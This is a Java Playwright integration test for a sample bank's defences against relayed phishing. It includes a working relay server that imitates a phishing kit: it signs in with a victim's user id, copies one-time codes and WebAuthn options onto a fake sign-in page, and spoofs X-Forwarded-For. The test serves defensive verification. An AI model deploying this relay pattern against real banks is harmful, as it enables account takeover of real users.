package org.countersign.samplebank;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Browser;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.CDPSession;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.AriaRole;
import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.CookieManager;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.URLDecoder;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.Optional;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.countersign.testkit.TestBrowser;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/**
 * X.1280 §9.1.1 with a real relaying phishing page in Chromium. The relay is a second HTTP server on another port
 * (another origin): its page takes the victim's user id, its server signs in to the bank with it in real time and
 * copies the bank's code (and, in the bound mode, the WebAuthn options) onto the phishing page.
 *
 * <ul>
 *   <li>Plain mode (user without a passkey): the codes match, but the phone shows the relay's network against its
 *       own and warns. The relay's network address is simulated: the bank trusts {@code X-Forwarded-For} from
 *       loopback (its reverse-proxy setting) and the relay sends a French address; the phone's own address comes
 *       from the verifier's test-only header seam (a German address), since every party here is on loopback.</li>
 *   <li>WebAuthn-bound mode (user with a passkey): the phishing page's assertion carries the relay's origin and
 *       is refused; the phone's approval is refused too. The genuine bank page binds and the approval goes through.</li>
 * </ul>
 */
@Tag("integration")
@Tag("browser")
class SampleBankRelayBrowserTest {
    static final String PIN = "739164";
    /** Plain mode: an account and the web authenticator on the phone, no passkey. */
    static final String VICTOR = "victor";
    /** Bound mode: the same, plus a passkey in the victim's browser. */
    static final String VALERIE = "valerie";
    static final String PHONE_TELEKOM_DE = "80.128.0.1";
    static final String RELAY_ORANGE_FR = "90.0.0.1";
    static final Path SHOTS = Path.of("target", "screenshots");
    static final String SEAM_PROPERTY = "countersign.test-only.authenticator-address-header";

    static BankTestBed bed;
    static String bankUrl;
    static Relay relay;
    /** Each user has a browser and a phone of their own, so no test depends on another having run first. */
    static BrowserContext victorBrowser;
    static Page victorPhone;
    static Page valeriePage;
    static Page valeriePhone;

    @BeforeAll
    static void start() throws Exception {
        System.setProperty(SEAM_PROPERTY, "true");
        // WebAuthn needs a domain as RP id: the bank is opened at localhost; the relay at localhost on another port
        // is another origin (same host name, so the browser even lets it ask for the bank's RP id).
        bed = BankTestBed.start("localhost", Optional.of("127.0.0.1"));
        bankUrl = bed.bankUrl;
        relay = new Relay(bankUrl);
        Files.createDirectories(SHOTS);

        victorBrowser = bed.browser.newContext(new Browser.NewContextOptions().setViewportSize(1000, 900));
        victorPhone = bed.enrolled(victorBrowser, phoneContext(), VICTOR, PIN);

        BrowserContext valerieBrowser = bed.browser.newContext(new Browser.NewContextOptions().setViewportSize(1000, 900));
        valeriePhone = bed.enrolled(valerieBrowser, phoneContext(), VALERIE, PIN);
        valeriePage = withPasskey(valerieBrowser, VALERIE);
    }

    static BrowserContext phoneContext() {
        return bed.browser.newContext(new Browser.NewContextOptions().setIgnoreHTTPSErrors(true)
                .setViewportSize(420, 900).setIsMobile(true).setHasTouch(true)
                .setExtraHTTPHeaders(Map.of("X-Test-Only-Authenticator-Address", PHONE_TELEKOM_DE)));
    }

    /**
     * The user adds a passkey in the bank (27553-1 local mode) from a page with a virtual authenticator; the page is
     * returned because the virtual authenticator belongs to that page's target: the bound-mode tests use it.
     */
    static Page withPasskey(BrowserContext browser, String user) {
        Page a = browser.newPage();
        CDPSession cdp = browser.newCDPSession(a);
        cdp.send("WebAuthn.enable");
        TestBrowser.addPlatformAuthenticator(cdp);
        a.navigate(bankUrl + "/password");
        a.getByLabel("User id").fill(user);
        a.getByLabel("Password").fill("correct horse battery");
        a.getByRole(AriaRole.BUTTON, named("Sign in")).click();
        a.getByRole(AriaRole.LINK, named("Add a passkey")).click();
        a.getByLabel("I have read this notice").check();
        a.getByRole(AriaRole.BUTTON, named("Agree and continue")).click();
        a.getByRole(AriaRole.BUTTON, named("Create a passkey")).click();
        a.waitForURL("**/account");
        assertThat(a.locator("#passkeys")).containsText("active");
        a.getByRole(AriaRole.BUTTON, named("Sign out")).click();
        assertThat(a.locator("header")).not().containsText("Signed in as");
        return a;
    }

    @AfterAll
    static void stop() throws Exception {
        if (relay != null) {
            relay.close();
        }
        if (bed != null) {
            bed.close();
        }
        System.clearProperty(SEAM_PROPERTY);
    }

    static void screenshot(Page page, String name) {
        page.screenshot(new Page.ScreenshotOptions().setFullPage(true).setPath(SHOTS.resolve("relay-" + name + ".png")));
    }

    static Page.GetByRoleOptions named(String name) {
        return new Page.GetByRoleOptions().setName(name);
    }

    static Locator unlockNewestRequest(Page phonePage) {
        Locator open = phonePage.locator("article.request:not(.closed)").first();
        assertThat(open).isVisible();
        Locator card = phonePage.locator("article.request[data-request-id=\"" + open.getAttribute("data-request-id") + "\"]");
        card.locator("input.pin").fill(PIN);
        card.getByText("Show code").click();
        assertThat(card.locator(".code-digits")).hasText(Pattern.compile("^\\d{6,10}$"));
        return card;
    }

    @Test
    void X1280_9_1_1_plainModeRelayShowsTheSameCodeButThePhoneWarnsOfTheNetwork() {
        Page p = victorBrowser.newPage();
        p.navigate(relay.url() + "/");
        p.getByLabel("User id").fill(VICTOR);
        p.getByRole(AriaRole.BUTTON, named("Continue")).click();
        String relayedCode = p.locator("#code").textContent().trim();
        assertThat(relayedCode).matches("\\d{6,10}");
        screenshot(p, "01-phishing-page-with-real-code");

        Locator card = unlockNewestRequest(victorPhone);
        // The code does not give the relay away: it is the real one.
        assertThat(card.locator(".code-digits")).hasText(relayedCode);
        // The network does: the terminal is the relay's French network, the phone is on a German one.
        assertThat(card.locator("[data-field=terminal]")).containsText("France");
        assertThat(card.locator("[data-field=terminal]")).containsText("Orange");
        assertThat(card.locator("[data-field=phoneNetwork]")).containsText("Germany");
        assertThat(card.locator("[data-field=phoneNetwork]")).containsText("Deutsche Telekom");
        Locator warning = card.locator(".network-warning");
        assertThat(warning).isVisible();
        assertThat(warning).containsText("France");
        screenshot(victorPhone, "02-phone-network-warning");
        // The warned user rejects; the request is finished.
        card.locator("[data-decision=reject]").click();
        assertThat(card.locator(".outcome")).not().isEmpty();
        // Nobody was signed in at the bank through the relay.
        assertThat(relay.signedIn(VICTOR)).isFalse();
        p.close();
    }

    /**
     * The residual risk of the plain mode, shown rather than hidden (docs/threats.md): a user who approves despite
     * the network warning signs the relay in. It also proves that {@link Relay#signedIn} can see a relay's success.
     */
    @Test
    void X1280_9_1_1_plainModeUserWhoApprovesDespiteTheWarningSignsTheRelayIn() {
        Page p = victorBrowser.newPage();
        p.navigate(relay.url() + "/");
        p.getByLabel("User id").fill(VICTOR);
        p.getByRole(AriaRole.BUTTON, named("Continue")).click();
        String relayedCode = p.locator("#code").textContent().trim();
        Locator card = unlockNewestRequest(victorPhone);
        assertThat(card.locator(".code-digits")).hasText(relayedCode);
        assertThat(card.locator(".network-warning")).isVisible();
        card.locator("[data-decision=approve]").click();
        assertThat(card.locator(".outcome")).containsText("Approved");
        assertThat(relay.signedIn(VICTOR)).isTrue();
        relay.signOut();
        p.close();
    }

    @Test
    void X1280_9_1_1_boundModeRelayCannotConfirmWithThePasskeyAndCannotBeApproved() {
        Page p = valeriePage;
        p.navigate(relay.url() + "/");
        p.getByLabel("User id").fill(VALERIE);
        p.getByRole(AriaRole.BUTTON, named("Continue")).click();
        assertThat(p.locator("#code")).isVisible();
        // The phishing page runs navigator.credentials.get with the bank's own options (challenge = offset hash)
        // and the relay forwards the result to the bank: the browser wrote the relay's origin into it.
        Locator relayStatus = p.locator("#relay-status");
        assertThat(relayStatus).containsText("bank answered 403", new com.microsoft.playwright.assertions
                .LocatorAssertions.ContainsTextOptions().setTimeout(20000));
        assertThat(relayStatus).containsText("refused");
        screenshot(p, "03-phishing-page-passkey-refused");

        Locator card = unlockNewestRequest(valeriePhone);
        assertThat(card.locator(".bound-note")).containsText("approval is refused until then");
        card.locator("[data-decision=approve]").click();
        assertThat(card.locator(".outcome")).containsText("has not confirmed it with your passkey");
        screenshot(valeriePhone, "04-phone-approval-refused");
        // Nobody was signed in at the bank through the relay.
        assertThat(relay.signedIn(VALERIE)).isFalse();
        card.locator("[data-decision=reject]").click();
        assertThat(card.locator(".outcome")).containsText("Rejected");
    }

    @Test
    void X1280_9_1_1_boundModeOnTheBanksOwnPageBindsAndSignsIn() {
        Page p = valeriePage;
        p.navigate(bankUrl + "/");
        p.getByLabel("User id").fill(VALERIE);
        p.getByRole(AriaRole.BUTTON, named("Continue")).click();
        assertThat(p.locator("#bind-status")).containsText("Confirmed with your passkey");
        Locator card = unlockNewestRequest(valeriePhone);
        assertThat(card.locator(".bound-note")).isVisible();
        card.locator("[data-decision=approve]").click();
        p.waitForURL("**/account");
        assertThat(p.locator("header")).containsText("Signed in as " + VALERIE);
        screenshot(p, "05-bank-bound-sign-in");
        // Leave the bank signed out, as the other bound-mode test expects to find it.
        p.getByRole(AriaRole.BUTTON, named("Sign out")).click();
        assertThat(p.locator("header")).not().containsText("Signed in as");
    }

    /**
     * The phishing site: one page on its own origin and a server that relays to the bank in real time, as a
     * phishing kit does. It sends {@code X-Forwarded-For} with a French address, which the bank (trusting its
     * loopback proxy) records as the terminal address.
     */
    static final class Relay implements AutoCloseable {
        private static final Pattern CSRF = Pattern.compile("name=\"csrf\" value=\"([^\"]+)\"");
        private static final Pattern CODE = Pattern.compile("id=\"code\"[^>]*>([0-9]+)<");
        private static final Pattern OPTIONS = Pattern.compile("data-options=\"([^\"]+)\"");
        private final HttpServer server;
        private final String bankUrl;
        private final HttpClient http;
        private volatile String bankCsrf;

        Relay(String bankUrl) throws IOException {
            this.bankUrl = bankUrl;
            this.http = HttpClient.newBuilder().cookieHandler(new CookieManager())
                    .followRedirects(HttpClient.Redirect.NORMAL).build();
            server = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
            server.createContext("/", this::handle);
            server.start();
        }

        String url() {
            return "http://localhost:" + server.getAddress().getPort();
        }

        /**
         * Whether the relay's own session at the bank is signed in as {@code user}: the relay opens the account page
         * with its cookies, as the phishing kit would after an approval (the bank's own page would be the prize).
         */
        boolean signedIn(String user) {
            try {
                // As the bank's wait page would: collect the login's outcome into the relay's session first.
                http.send(HttpRequest.newBuilder(URI.create(bankUrl + "/login/check"))
                        .header("X-Forwarded-For", RELAY_ORANGE_FR).GET().build(), HttpResponse.BodyHandlers.discarding());
                HttpResponse<String> r = http.send(HttpRequest.newBuilder(URI.create(bankUrl + "/account"))
                        .header("X-Forwarded-For", RELAY_ORANGE_FR).GET().build(), HttpResponse.BodyHandlers.ofString());
                return r.uri().getPath().equals("/account") && r.body().contains("Signed in as <strong>" + user + "</strong>");
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
                throw new IllegalStateException(e);
            }
        }

        private void handle(HttpExchange ex) throws IOException {
            try {
                String path = ex.getRequestURI().getPath();
                if (path.equals("/") && ex.getRequestMethod().equals("GET")) {
                    reply(ex, 200, "text/html", page("<form method=\"post\" action=\"/go\"><label>User id <input "
                            + "name=\"userId\"></label><button type=\"submit\">Continue</button></form>"));
                } else if (path.equals("/go")) {
                    String userId = URLDecoder.decode(new String(ex.getRequestBody().readAllBytes(),
                            StandardCharsets.UTF_8).replaceFirst("^userId=", ""), StandardCharsets.UTF_8);
                    String wait = relayLogin(userId);
                    String code = find(CODE, wait);
                    String options = find(OPTIONS, wait);
                    StringBuilder b = new StringBuilder("<p>Your code</p><p id=\"code\">" + code + "</p>"
                            + "<p id=\"relay-status\"></p>");
                    if (options != null) {
                        b.append("<script>const o=JSON.parse(").append(jsString(options.replace("&quot;", "\"")
                                .replace("&#34;", "\"").replace("&amp;", "&"))).append(");").append(RELAY_SCRIPT).append("</script>");
                    }
                    reply(ex, 200, "text/html", page(b.toString()));
                } else if (path.equals("/bind")) {
                    String body = new String(ex.getRequestBody().readAllBytes(), StandardCharsets.UTF_8);
                    HttpResponse<String> r = http.send(HttpRequest.newBuilder(URI.create(bankUrl + "/login/bind"))
                            .header("Content-Type", "application/json").header("X-CSRF-Token", bankCsrf)
                            .header("X-Forwarded-For", RELAY_ORANGE_FR)
                            .POST(HttpRequest.BodyPublishers.ofString(body)).build(), HttpResponse.BodyHandlers.ofString());
                    reply(ex, 200, "application/json", "{\"status\":" + r.statusCode() + ",\"bank\":" + r.body() + "}");
                } else {
                    reply(ex, 404, "text/plain", "not found");
                }
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
                reply(ex, 500, "text/plain", "interrupted");
            } catch (RuntimeException e) {
                reply(ex, 500, "text/plain", e.toString());
            }
        }

        /** Ends the relay's session at the bank (a new cookie jar), so tests do not see each other's sign-ins. */
        void signOut() {
            ((CookieManager) http.cookieHandler().orElseThrow()).getCookieStore().removeAll();
        }

        /** Starts the login at the bank with the victim's id; returns the bank's wait page. */
        private String relayLogin(String userId) throws IOException, InterruptedException {
            String home = http.send(HttpRequest.newBuilder(URI.create(bankUrl + "/")).GET().build(),
                    HttpResponse.BodyHandlers.ofString()).body();
            bankCsrf = find(CSRF, home);
            String form = "csrf=" + URLEncoder.encode(bankCsrf, StandardCharsets.UTF_8) + "&userId="
                    + URLEncoder.encode(userId, StandardCharsets.UTF_8);
            HttpResponse<String> r = http.send(HttpRequest.newBuilder(URI.create(bankUrl + "/login"))
                    .header("Content-Type", "application/x-www-form-urlencoded")
                    .header("X-Forwarded-For", RELAY_ORANGE_FR)
                    .POST(HttpRequest.BodyPublishers.ofString(form)).build(), HttpResponse.BodyHandlers.ofString());
            return r.body();
        }

        private static final String RELAY_SCRIPT = """
                const bytes=(s)=>Uint8Array.from(atob(s.replace(/-/g,'+').replace(/_/g,'/')+'==='.slice((s.length+3)%4)),(c)=>c.charCodeAt(0));
                const b64=(b)=>{const v=new Uint8Array(b);let s='';for(const x of v)s+=String.fromCharCode(x);return btoa(s).replace(/\\+/g,'-').replace(/\\//g,'_').replace(/=+$/,'');};
                const st=document.getElementById('relay-status');
                navigator.credentials.get({publicKey:{challenge:bytes(o.challenge),rpId:o.rpId,timeout:o.timeout,
                  userVerification:o.userVerification,allowCredentials:o.allowCredentials.map((c)=>({type:c.type,id:bytes(c.id)}))}})
                .then((c)=>fetch('/bind',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({webauthn:{
                  id:c.id,clientDataJSON:b64(c.response.clientDataJSON),authenticatorData:b64(c.response.authenticatorData),
                  signature:b64(c.response.signature),userHandle:c.response.userHandle?b64(c.response.userHandle):''}})}))
                .then((r)=>r.json()).then((j)=>{st.textContent='bank answered '+j.status+': '+(j.bank.message||'');})
                .catch((e)=>{st.textContent='passkey step failed: '+e.name;});
                """;

        private static String page(String body) {
            return "<!doctype html><html><head><meta charset=\"utf-8\"><title>Sample Bank - sign in</title></head><body>"
                    + body + "</body></html>";
        }

        private static String jsString(String s) {
            return "'" + s.replace("\\", "\\\\").replace("'", "\\'").replace("<", "\\x3c") + "'";
        }

        private static String find(Pattern p, String text) {
            Matcher m = p.matcher(text);
            return m.find() ? m.group(1) : null;
        }

        private static void reply(HttpExchange ex, int status, String type, String body) throws IOException {
            byte[] b = body.getBytes(StandardCharsets.UTF_8);
            ex.getResponseHeaders().add("Content-Type", type + "; charset=utf-8");
            ex.sendResponseHeaders(status, b.length);
            ex.getResponseBody().write(b);
            ex.close();
        }

        @Override
        public void close() {
            server.stop(0);
        }
    }
}
